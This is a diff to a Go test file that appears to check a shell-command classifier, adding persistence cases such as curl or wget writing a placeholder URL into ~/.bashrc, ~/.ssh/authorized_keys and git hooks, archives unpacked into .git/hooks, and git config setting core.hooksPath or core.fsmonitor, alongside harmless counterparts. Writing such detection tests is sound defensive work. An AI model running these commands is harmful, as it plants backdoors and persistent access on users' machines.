@@ -354,11 +354,15 @@ var persistenceBashFamilies = []family{
 		`cp hook.sh .git/hooks/pre-commit`, `echo x > .git/hooks/post-checkout`, `ln -s ../../x .git/hooks/pre-push`,
 		`printf 'Host *\n' >> ~/.ssh/config`, `sed -i 's/a/b/' ~/.bashrc`, `echo x | sudo tee /etc/profile.d/x.sh`,
 		`cp x.service ~/.config/systemd/user/`, `echo x >> .git/config`, `python3 -c "open('/home/u/.bashrc','a').write('x')"`,
-		`bash -c 'echo x >> ~/.zshrc'`,
+		`bash -c 'echo x >> ~/.zshrc'`, `curl -o .git/hooks/pre-commit https://x`, `curl -sSLo ~/.bashrc https://x`,
+		`curl --output ~/.ssh/authorized_keys https://x`, `wget -O ~/.bashrc https://x`, `wget --output-document=.git/hooks/pre-push https://x`,
+		`tar xzf hooks.tgz -C .git/hooks`, `tar -xf h.tar --directory=.git/hooks`, `unzip x.zip -d .git/hooks`,
+		`git config --file .git/config core.hooksPath /tmp`, `git config -f .git/config core.fsmonitor x`,
 	}},
 	{"persistence, harmless", "allow", []string{
 		`cat ~/.bashrc`, `crontab -l`, `ls .git/hooks`, `cat .git/config`, `echo x >> notes.txt`, `echo x > /tmp/y`,
-		`cp a b`, `git config user.email a@b`, `grep alias ~/.zshrc`,
+		`cp a b`, `git config user.email a@b`, `grep alias ~/.zshrc`, `curl -o data.json https://x`, `wget -O /tmp/x.tgz https://x`,
+		`tar xzf vendor.tgz -C third_party`, `unzip x.zip -d build`, `git config --file .gitmodules submodule.a.url x`,
 	}}}
 
 func TestPersistenceBash(t *testing.T) {
